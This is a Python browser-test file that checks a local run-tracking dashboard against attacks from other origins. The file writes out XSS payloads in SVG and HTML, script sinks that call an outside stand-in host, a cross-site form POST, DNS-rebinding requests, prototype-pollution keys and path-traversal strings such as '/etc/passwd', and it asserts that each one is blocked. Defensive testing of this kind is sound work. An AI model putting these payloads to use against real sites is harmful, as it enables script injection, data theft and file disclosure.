"""What others may try by way of the browser of whoever looks: each threat, tried in a real one.

What an attack may not do is shown beside what the page itself may: so that none of them fails for
another reason than the one that it is held off by.
"""

import warnings

import pytest
from browser_runs import log_run, make_falling
from strangers import Stranger

import quark

RUN = "victim"
SECRET = "a name that nobody else may read"
SITES = ["127.0.0.1", pytest.param("evil.example")]
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
onload="window.ran=1;top.ran=1" width="20" height="20"><script>window.ran = 1; parent.ran = 1;
fetch("/api/runs").then(answer => answer.text()).then(text => document.title = text)</script>
<image xlink:href="{0}pixel" width="9" height="9"/><a href="javascript:top.ran=1"><text>x</text></a>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{0}frame"/>
</foreignObject></svg>"""
HTML = "<!doctype html><title>mine</title><script>window.ran = 1</script><img src='{0}pixel'>"
# Each way to get at an answer: what it gave, or null where it was refused.
TRIES = """async ([ours, artifact]) => {
    const load = (name, field, url) => new Promise((give, refuse) => {
        const element = document.createElement(name);
        element.onload = () => give(`${name} loaded`);
        element.onerror = refuse;
        if (name === "link") element.rel = "stylesheet";
        element[field] = url;
        document.body.append(element);
    });
    const ask = (more) => fetch(`${ours}api/runs`, {credentials: "include", ...more})
        .then(answer => answer.text());
    const tries = {
        read: () => ask(),
        readOpaque: () => ask({mode: "no-cors"}),
        readOld: () => new Promise((give, refuse) => {
            const request = new XMLHttpRequest();
            request.open("GET", `${ours}api/runs`);
            request.withCredentials = true;
            request.onload = () => give(request.responseText);
            request.onerror = refuse;
            request.send();
        }),
        post: () => ask({method: "POST", body: "x"}).then(() => "posted"),
        postOpaque: () => ask({method: "POST", mode: "no-cors", body: "x"}).then(() => "posted"),
        remove: () => ask({method: "DELETE"}).then(() => "removed"),
        script: () => load("script", "src", `${ours}api/runs`),
        style: () => load("link", "href", `${ours}api/runs`),
        image: () => load("img", "src", artifact),
        page: () => fetch(ours, {credentials: "include"}).then(answer => answer.text()),
    };
    const found = {};
    for (const [name, act] of Object.entries(tries)) {
        found[name] = await act().catch(() => null);
    }
    return found;
}"""


@pytest.fixture(scope="module")
def stranger():
    server = Stranger()
    yield server
    server.stop()


def log_payloads(session, outside):
    with quark.ArtifactStore(session) as artifacts:
        artifacts.store("page", "page", HTML.format(outside), payload_format="text")
        artifacts.store("image", "drawing", SVG.format(outside), payload_format="text")
        artifacts.store("note", "text", f"a text\n{HTML}", payload_format="text")
        artifacts.store("data", "__proto__", {"__proto__": {"polluted": 1}})
    with quark.EventLogger(session) as events:
        events.log(
            "odd",
            status="__proto__",
            payload={"__proto__": {"polluted": 1}, "constructor": {"x": 1}},
        )


@pytest.fixture(scope="module")
def victim(tmp_path_factory, stranger):
    """A run with payloads that would run scripts, and names that objects have by themselves."""
    root = tmp_path_factory.mktemp("victim")
    names = ("train/loss", "__proto__/polluted", "constructor/prototype", "toString/valueOf")
    polluting = {"polluted": 1, "__proto__": {"polluted": 1}}
    with warnings.catch_warnings():
        # Quark says that it stores odd names encoded.
        warnings.simplefilter("ignore", RuntimeWarning)
        log_run(
            root,
            RUN,
            {name: make_falling(20) for name in names},
            name=SECRET,
            project="__proto__",
            tags=["__proto__", "constructor"],
            config={"__proto__": polluting, "constructor": {"prototype": polluting}},
            more=lambda session: log_payloads(session, stranger.name()),
            analyzes=False,
        )
    return root


@pytest.fixture
def attacked(visit, serve_shared, victim):
    """A browser that has signed in, and in which others try things."""

    def begin(path=None, **options):
        return visit(serve_shared(victim), path, is_attacked=True, **options).sign_in()

    return begin


def find_artifacts(visitor):
    """Addresses of the run's payloads by their names."""
    answer = visitor.context.request.get(f"{visitor.server.page.url}api/runs/{RUN}/artifacts")
    return {
        each["name"]: visitor.server.page.url + each["url"] for each in answer.json()["artifacts"]
    }


@pytest.mark.parametrize("host", SITES)
def test_a_page_of_another_origin_reads_and_does_nothing(attacked, stranger, host):
    visitor = attacked("")
    ours = visitor.server.page.url
    asked = [ours, find_artifacts(visitor)["drawing"]]
    # The page itself may read: the attacks are real ones.
    own = visitor.evaluate(TRIES, asked)
    assert SECRET in own["read"] == own["readOld"]
    assert own["image"] == "img loaded"
    assert "is read-only" in visitor.evaluate(
        "ours => fetch(ours + 'api/runs', {method: 'POST'}).then(answer => answer.text())", ours
    )
    visitor.page.goto(stranger.name(host))
    assert set(visitor.evaluate(TRIES, asked).values()) == {None}
    # A form needs no leave to send: it is answered with a refusal, and changes nothing.
    visitor.evaluate(
        """ours => {
        const form = document.createElement("form");
        Object.assign(form, {method: "POST", action: `${ours}api/runs`, target: "_self"});
        document.body.append(form);
        form.submit();
    }""",
        ours,
    )
    visitor.wait_for_text("this server is read-only")
    visitor.go("")
    visitor.wait_for_text(SECRET)


@pytest.mark.parametrize("host", SITES)
def test_no_page_of_others_has_ours_in_a_frame(attacked, stranger, host):
    visitor = attacked()
    ours = visitor.server.page.url
    places = [ours, f"{ours}run/{RUN}", find_artifacts(visitor)["drawing"], f"{ours}api/runs"]
    visitor.page.goto(stranger.name(host))
    visitor.evaluate(
        """places => Promise.all([...places, location.href].map(place => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.src = place;
        frame.onload = done;
        document.body.append(frame);
    })))""",
        places,
    )
    *blocked, own = visitor.page.main_frame.child_frames
    assert own.url == stranger.name(host)
    assert "a stranger" in own.inner_text("body")
    assert [frame.url for frame in blocked] == ["chrome-error://chromewebdata/"] * len(places)


@pytest.mark.parametrize("host", SITES)
def test_who_opens_our_page_has_no_hold_on_it(attacked, stranger, host):
    visitor = attacked()
    visitor.page.goto(stranger.name(host))
    with visitor.context.expect_page() as opened:
        visitor.evaluate("ours => void (window.hold = window.open(ours))", visitor.server.page.url)
    ours = opened.value
    # From another site the cookie does not come along; a click within the page is our own.
    if host != "127.0.0.1":
        ours.get_by_role("link", name="continue").click()
    ours.get_by_role("link", name=SECRET).wait_for()
    assert ours.evaluate("window.opener") is None
    visitor.wait("window.hold.closed")
    visitor.evaluate("() => window.hold.postMessage('x', '*')")
    assert visitor.evaluate("window.hold.length") == 0


def test_a_name_that_is_made_to_mean_this_machine_reads_nothing(attacked):
    visitor = attacked()
    # A document of the stranger's name and our port: by now the name means this machine.
    visitor.page.goto(f"http://rebound.example:{visitor.server.port}/")
    token = visitor.server.page.sessions.make_token()
    said = visitor.evaluate(
        """paths => Promise.all(paths.map(path => fetch(path, {credentials: "include"})
        .then(async answer => [answer.status, await answer.text()])))""",
        ["api/runs", "run/x", f"run/x?token={token}", f"api/runs/{RUN}"],
    )
    assert [status for status, _ in said] == [421] * 4
    assert all("this server does not serve host 'rebound.example" in text for _, text in said)
    # Nobody has traded the token meanwhile.
    other = visitor.context.request.get(f"{visitor.server.page.url}?token={token}", max_redirects=0)
    assert other.status == 303


def test_the_token_stays_nowhere_and_no_script_reads_the_cookie(visit, serve_shared, victim):
    server = serve_shared(victim)
    visitor = visit(server, is_attacked=True)
    visitor.context.clear_cookies()
    visitor.go("")
    assert "Open the address that the terminal shows" in visitor.page.inner_text("body")
    assert visitor.evaluate("fetch('api/runs').then(answer => answer.status)") == 401
    link = server.page.make_link()
    visitor.page.goto(link)
    visitor.wait_for_text(SECRET)
    session = visitor.context.new_cdp_session(visitor.page)
    history = [entry["url"] for entry in session.send("Page.getNavigationHistory")["entries"]]
    assert history[-1] == server.page.url
    kept = visitor.evaluate(
        """async () => JSON.stringify([location.href, document.referrer, document.cookie,
        window.name, {...localStorage}, {...sessionStorage}, history.state,
        (await globalThis.cookieStore?.getAll()) ?? [], await caches.keys(),
        performance.getEntries().map(entry => entry.name), document.documentElement.outerHTML])"""
    )
    (cookie,) = visitor.context.cookies()
    token = link.partition("token=")[2]
    secrets = (token, cookie["value"])
    assert not any(secret in text for secret in secrets for text in (kept, *history))
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert [url for url in visitor.requests if "token=" in url] == [link]
    # It was good once.
    visitor.context.clear_cookies()
    visitor.page.goto(link)
    assert "Open the address that the terminal shows" in visitor.page.inner_text("body")


HOLE = """<script>window.ran = "inline"</script><img src=x onerror="window.ran = 'handler'">
<script src="{0}x.js"></script><script src="data:text/javascript,window.ran='data'"></script>
<link rel="stylesheet" href="{0}x.css"><style>body {{ background: red }}</style>
<img src="{0}x.png"><iframe src="{0}frame"></iframe><object data="{0}object"></object>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<a id="hole-link" href="javascript:window.ran='link'">x</a>
<form id="hole-form" action="{0}form" method="post"><button>x</button></form>
<base href="{0}"><div id="hole-end" style="position: fixed">x</div>"""
SINKS = """async outside => {
    const outcomes = {};
    const attempt = async (name, act) => {
        try {
            outcomes[name] = String(await act() ?? "done");
        } catch (error) {
            outcomes[name] = error.name;
        }
    };
    const make = (name) => document.body.appendChild(document.createElement(name));
    await attempt("innerHTML", () => { make("p").innerHTML = "<b>x</b>"; });
    await attempt("outerHTML", () => { make("p").outerHTML = "<b>x</b>"; });
    await attempt("insert", () => make("p").insertAdjacentHTML("beforeend", "<b>x</b>"));
    await attempt("write", () => document.write("<b>x</b>"));
    await attempt("srcdoc", () => { make("iframe").srcdoc = "<b>x</b>"; });
    await attempt("script", () => { make("script").text = "window.ran = 'text'"; });
    await attempt("source", () => { make("script").src = outside; });
    await attempt("policy", () => trustedTypes.createPolicy("x", {createHTML: text => text}));
    // Within the evaluation of a test the policy does not reach `eval`; later it does.
    await attempt("eval", () => new Promise((give, refuse) => setTimeout(() => {
        try { give(eval("window.ran = 'eval'")); } catch (error) { refuse(error); }
    })));
    await attempt("fetch", () => fetch(outside));
    await attempt("worker", () => { new Worker(outside); });
    navigator.sendBeacon(outside, "x");
    new Image().src = outside;
    return outcomes;
}"""


def test_were_there_a_hole_in_the_page_the_policy_would_stop_it(attacked, stranger):
    visitor = attacked()
    outside, before = stranger.name(), len(stranger.asked)

    def make_hole(route):
        answer = route.fetch()
        body = answer.text().replace("</body>", f"{HOLE.format(outside)}</body>")
        route.fulfill(response=answer, body=body)

    visitor.page.route(f"{visitor.server.page.url}run/{RUN}", make_hole)
    visitor.go(f"run/{RUN}")
    visitor.wait("document.getElementById('hole-end')")
    visitor.wait_for_chart("train/loss")
    assert visitor.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert (
        visitor.evaluate("getComputedStyle(document.getElementById('hole-end')).position")
        == "static"
    )
    visitor.evaluate("document.getElementById('hole-link').click()")
    visitor.evaluate("document.querySelector('#hole-form button').click()")
    outcomes = visitor.evaluate(SINKS, outside)
    # What made a policy of its own, or a worker, would answer otherwise.
    assert outcomes == {
        **dict.fromkeys(
            ("innerHTML", "outerHTML", "insert", "write", "srcdoc", "script", "source", "policy",
             "fetch", "worker"), "TypeError",
        ),
        "eval": "EvalError",
    }  # fmt: skip
    assert visitor.evaluate("window.ran ?? null") is None
    assert visitor.page.url == f"{visitor.server.page.url}run/{RUN}"
    assert len(stranger.asked) == before
    # The page goes on as if nothing had been there.
    visitor.evaluate("document.getElementById('tab-config').click()")
    visitor.wait("document.querySelector('#panel .values')")


def test_a_payload_that_is_a_page_or_a_drawing_runs_nothing(attacked, stranger, tmp_path):
    visitor = attacked(f"run/{RUN}?tab=artifacts")
    artifacts = find_artifacts(visitor)
    before = len(stranger.asked)
    # As an image on our own page, and in a frame of it.
    visitor.wait("[...document.images].some(image => image.complete && image.naturalWidth)")
    visitor.evaluate(
        """places => Promise.all(places.map(place => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.src = place;
        frame.onload = done;
        document.body.append(frame);
    })))""",
        [artifacts["drawing"], artifacts["text"]],
    )
    assert visitor.evaluate("window.ran ?? null") is None
    # Opened by itself.
    alone = visitor.context.new_page()
    alone.goto(artifacts["drawing"])
    assert alone.evaluate("document.documentElement.localName") == "svg"
    assert alone.evaluate("[window.ran ?? null, window.origin, document.title]") == [
        None,
        "null",
        "",
    ]
    alone.goto(artifacts["text"])
    assert alone.inner_text("body").startswith("a text\n<!doctype html>")
    assert alone.evaluate("window.ran ?? null") is None
    # A page is saved, and not shown; opened from the disk, it is nobody to the server.
    with visitor.page.expect_download() as saved:
        visitor.page.get_by_role("link", name="Download page", exact=True).click()
    assert f"run/{RUN}" in visitor.page.url
    assert saved.value.suggested_filename.startswith("page")
    copy = tmp_path / "page.html"
    saved.value.save_as(copy)
    assert len(stranger.asked) == before
    alone.goto(copy.as_uri())
    assert alone.evaluate("window.ran") == 1
    asked = [visitor.server.page.url, artifacts["drawing"]]
    assert set(alone.evaluate(TRIES, asked).values()) == {None}


def test_a_link_that_leads_out_takes_nothing_along(visit, serve_shared, runs):
    visitor = visit(serve_shared(runs), "run/quiet?tab=config", is_attacked=True)
    headers = []

    def answer(route, request):
        headers.append(request.all_headers())
        route.fulfill(body="<title>outside</title>", content_type="text/html")

    visitor.context.route("https://quark.example/**", answer)
    with visitor.context.expect_page() as opened:
        visitor.page.get_by_role("link", name="https://quark.example/notes").click()
    outside = opened.value
    outside.wait_for_url("https://quark.example/notes")
    assert outside.evaluate("[window.opener, document.referrer, history.length]") == [None, "", 1]
    (sent,) = headers
    assert not {"referer", "cookie", "origin"} & set(sent)


def test_names_that_objects_have_by_themselves_are_names(attacked):
    visitor = attacked(f"run/{RUN}?turned=__proto__&__proto__[polluted]=1&constructor=x")
    visitor.wait_for_chart("train/loss")
    for name in ("constructor/prototype", "toString/valueOf"):
        visitor.wait_for_chart(name)
    # Its group was turned by the address.
    visitor.wait("[...document.querySelectorAll('#panel button')].some("
                 "button => button.innerText.includes('__proto__'))")  # fmt: skip
    for tab in ("events", "artifacts", "config", "delivery"):
        visitor.page.click(f"#tab-{tab}")
        visitor.wait(f"document.getElementById('tab-{tab}').ariaSelected === 'true'")
        visitor.wait("document.getElementById('panel').innerText.length > 20")
        if tab != "delivery":
            visitor.wait("document.getElementById('panel').textContent.includes('__proto__')")
    visitor.go("?project=__proto__&column=tags&order=__proto__&find=")
    visitor.wait("document.querySelector('.runs, .mistake')")
    visitor.go("?project=__proto__&column=tags")
    visitor.wait_for_text(SECRET)
    assert visitor.evaluate(
        """[({}).polluted ?? null, [].polluted ?? null, Object.keys(Object.prototype).length,
        Object.getPrototypeOf({}) === Object.prototype, typeof toString]"""
    ) == [None, None, 0, True, "function"]
    assert visitor.errors == []


def test_paths_and_wishes_beyond_bounds_are_refused_to_a_browser_too(attacked):
    visitor = attacked("")
    visitor.wait_for_text(SECRET)
    found = visitor.evaluate(
        """async paths => {
        const script = new URL(document.querySelector("script[src]").src);
        const folder = script.pathname.replace(/[^/]*$/, "");
        return Promise.all(paths.map(path => fetch(path.replace("~", folder)).then(
            answer => answer.status)));
    }""",
        [
            "~app.js", "~..%2f..%2fapp.py", "~%2e%2e%2fapp.py", "~..%5capp.py", "~%00",
            "~/etc/passwd",
            f"/artifacts/{RUN}/..%2f..%2f.quark%2fquark.db", f"/artifacts/..%2f{RUN}/{'0' * 64}",
            f"/api/runs/{RUN}/series?{'&'.join(f'key=m{place}' for place in range(51))}",
            f"/api/runs/{RUN}/series?key=train/loss&entries=4001",
            "/api/runs?limit=201",
        ],
    )  # fmt: skip
    assert found == [200, *[404] * 7, *[400] * 3]
    # Many at once are answered, or told to come again; the page stays what it is.
    statuses = visitor.evaluate(
        f"""Promise.all(Array.from({{length: 40}}, (_, i) => fetch(
        `/api/runs/{RUN}/series?key=train/loss&entries=${{100 + i}}`).then(
            answer => answer.status)))"""
    )
    assert set(statuses) <= {200, 503}
    assert 200 in statuses
